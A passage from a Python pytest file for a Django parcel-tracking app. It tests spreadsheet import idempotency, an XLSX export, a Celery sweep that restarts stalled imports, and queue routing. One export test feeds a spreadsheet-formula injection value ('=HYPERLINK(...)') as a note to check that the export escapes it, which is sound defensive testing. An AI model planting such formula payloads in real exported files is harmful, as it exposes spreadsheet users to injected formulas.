    assert (imp.status, counts(imp), imp.result_file.name, imp.finished_at) == before
    assert imp.added == 2 and imp.already == 0


def test_a_running_import_is_not_started_again(customer):
    imp = import_start(customer=customer, uploaded_file=xlsx_file([["SF1234567890123"]]))
    TrackingImport.objects.filter(pk=imp.pk).update(status=TrackingImport.Status.RUNNING)
    import_run(import_id=imp.pk)
    assert not TrackingNumber.objects.exists()


def test_a_deleted_import_is_ignored():
    import_run(import_id=987654)


# --- the export --------------------------------------------------------------------------------------------


def exported(queryset, stream=None) -> list[tuple]:
    stream = stream if stream is not None else io.BytesIO()
    export_tracking_xlsx(queryset, stream)
    content = stream.content if isinstance(stream, HttpResponse) else stream.getvalue()
    sheet = load_workbook(io.BytesIO(content)).active
    return [tuple(cell for cell in row) for row in sheet.iter_rows()]


def test_the_export_matches_the_queryset_and_its_notes_cannot_be_formulas(
    customer, other_customer, django_assert_max_num_queries
):
    plain = TrackingNumberFactory(customer=customer, code="SF1234567890123", courier="sf", note="3 đôi giày")
    evil = TrackingNumberFactory(customer=customer, code="78123456789012", note='=HYPERLINK("http://x")')
    consignment = ConsignmentFactory(customer=customer, code="KG00000042")
    matched = TrackingNumberFactory(
        customer=customer, code="YT1234567890123", status=TrackingStatus.MATCHED, consignment=consignment
    )
    TrackingNumberFactory(customer=other_customer, code="JT1234567890123")
    TrackingNumber.objects.filter(pk=plain.pk).update(
        created_at=dt.datetime(2025, 6, 1, 17, 30, tzinfo=dt.UTC)
    )

    queryset = TrackingNumber.objects.filter(customer=customer).order_by("code")
    with django_assert_max_num_queries(2):
        rows = exported(queryset)

    values = [[cell.value for cell in row] for row in rows]
    assert values[0] == ["Tracking number", "Courier", "Note", "Registered on", "Status", "Order code"]
    assert [row[0] for row in values[1:]] == ["78123456789012", "SF1234567890123", "YT1234567890123"]
    by_code = {row[0]: row for row in values[1:]}
    assert by_code["SF1234567890123"] == [
        "SF1234567890123",
        "SF Express (顺丰)",
        "3 đôi giày",
        "02/06/2025 00:30",  # Asia/Ho_Chi_Minh, UTC+7
        "Registered",
        None,
    ]
    assert by_code["78123456789012"][2] == "'" + evil.note
    assert by_code["78123456789012"][1] is None
    assert by_code["YT1234567890123"][4:] == ["Matched", "KG00000042"]
    assert matched.consignment_id
    assert all(cell.data_type != "f" for row in rows for cell in row)


def test_the_export_writes_into_an_http_response(customer):
    TrackingNumberFactory(customer=customer, code="SF1234567890123")
    response = HttpResponse(content_type=XLSX)
    rows = exported(TrackingNumber.objects.filter(customer=customer), response)
    assert [row[0].value for row in rows] == ["Tracking number", "SF1234567890123"]


# --- The sweep behind the task: a worker that died, a message that was lost ------------------------------------


def _aged(imp, **fields):
    TrackingImport.objects.filter(pk=imp.pk).update(**fields)
    imp.refresh_from_db()
    return imp


def test_an_import_whose_worker_died_starts_again_once_then_ends_failed_with_what_to_do(customer, settings):
    """Issue 13: a worker killed mid-import. The sweep starts the import again from the beginning (rows the
    dead run registered count as added, not 'already yours', and none is registered twice); stalled a second
    time, it ends as FAILED with what to do."""
    from django.utils import timezone

    settings.LANGUAGE_CODE = "vi"  # the site's language: the sweep has no request to take one from

    now = timezone.now()
    dead = run(customer, csv_file("SF1234567890123\nSF1234567890125\n"))
    dead = _aged(
        dead,
        status=TrackingImport.Status.RUNNING,
        started_at=now - dt.timedelta(minutes=21),
        created_at=now - dt.timedelta(minutes=22),
        finished_at=None,
        added=1,
        processed_rows=1,
    )
    working = TrackingImportFactory(customer=customer)
    working = _aged(working, status=TrackingImport.Status.RUNNING, started_at=now - dt.timedelta(minutes=5))
    finished = run(customer, csv_file("SF1234567890124\n"))

    # Celery runs eagerly in tests: the restarted import runs again at once.
    assert imports.imports_sweep(now=now) == {"restarted": 1, "failed": 0, "requeued": 1}
    dead.refresh_from_db()
    assert dead.status == TrackingImport.Status.DONE and dead.error == ""
    assert (dead.processed_rows, dead.added, dead.already) == (2, 2, 0)
    assert TrackingNumber.objects.filter(customer=customer, code="SF1234567890123").count() == 1
    working.refresh_from_db()
    assert working.status == TrackingImport.Status.RUNNING
    finished.refresh_from_db()
    assert finished.status == TrackingImport.Status.DONE
    assert imports.imports_sweep(now=now) == {"restarted": 0, "failed": 0, "requeued": 0}  # nothing twice

    # Killed again in its second run: failed, with what to do.
    _aged(
        dead,
        status=TrackingImport.Status.RUNNING,
        started_at=now - dt.timedelta(minutes=21),
        error=imports.run._restart_note(),
        finished_at=None,
    )
    assert imports.imports_sweep(now=now)["failed"] == 1
    dead.refresh_from_db()
    assert dead.status == TrackingImport.Status.FAILED and dead.is_finished
    assert dead.finished_at == now
    assert dead.error.startswith("Việc xử lý đã dừng trước khi hết tệp. Hãy tải tệp lên lại")
    assert TrackingNumber.objects.filter(customer=customer, code="SF1234567890123").exists()  # kept


def test_an_import_whose_message_was_lost_is_queued_again_and_runs(
    customer, django_capture_on_commit_callbacks
):
    from django.utils import timezone

    now = timezone.now()
    lost = TrackingImportFactory(customer=customer)  # PENDING: its task never came
    lost = _aged(lost, created_at=now - dt.timedelta(minutes=11))
    waiting = TrackingImportFactory(customer=customer)  # uploaded a minute ago: the queue is just busy

    assert imports.imports_sweep(now=now) == {"restarted": 0, "failed": 0, "requeued": 1}  # eager Celery

    lost.refresh_from_db()
    assert lost.status == TrackingImport.Status.DONE
    assert lost.started_at is not None and lost.added == 1
    assert TrackingNumber.objects.filter(customer=customer, code="SF123456789012").exists()
    waiting.refresh_from_db()
    assert waiting.status == TrackingImport.Status.PENDING


def test_a_queued_again_import_that_already_started_is_not_run_twice(customer):
    imp = run(customer, csv_file("SF1234567890123\n"))
    added = imp.added
    import_run(import_id=imp.pk)  # the duplicate message of a re-queue
    imp.refresh_from_db()
    assert imp.status == TrackingImport.Status.DONE and imp.added == added == 1


def test_the_sweep_runs_from_beat(settings):
    schedule = {entry["task"]: entry["schedule"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert schedule["tracking.tasks.sweep_imports"] <= 10 * 60


def test_an_import_running_since_before_started_at_was_kept_is_swept_too(customer):
    from django.utils import timezone

    now = timezone.now()
    old = _aged(
        TrackingImportFactory(customer=customer),
        status=TrackingImport.Status.RUNNING,
        started_at=None,
        created_at=now - dt.timedelta(hours=1),
    )
    recent = _aged(
        TrackingImportFactory(customer=customer), status=TrackingImport.Status.RUNNING, started_at=None
    )
    assert imports.imports_sweep(now=now)["restarted"] == 1
    old.refresh_from_db()
    recent.refresh_from_db()
    assert (old.status, recent.status) == (TrackingImport.Status.DONE, TrackingImport.Status.RUNNING)


def test_imports_have_a_queue_of_their_own(settings):
    """A 15-minute import never sits in front of notifications and matching (config/celery.py)."""
    from config.celery import app

    default = app.conf.task_default_queue
    route = app.amqp.router.route
    assert route({}, "tracking.tasks.run_import", (), {})["queue"].name == f"{default}.imports"
    for other in ("notifications.tasks.deliver_notifications", "tracking.tasks.sweep_imports"):
        assert route({}, other, (), {})["queue"].name == default
    # Each queue has an exchange and routing key of its own: a queue bound to the default ones would get a
    # copy of every default-queue task (each notification delivered twice).
    bindings = [(q.exchange.name, q.routing_key) for q in settings.CELERY_TASK_QUEUES]
    assert bindings == [(q.name, q.name) for q in settings.CELERY_TASK_QUEUES]
    assert len(set(bindings)) == len(bindings) == 2
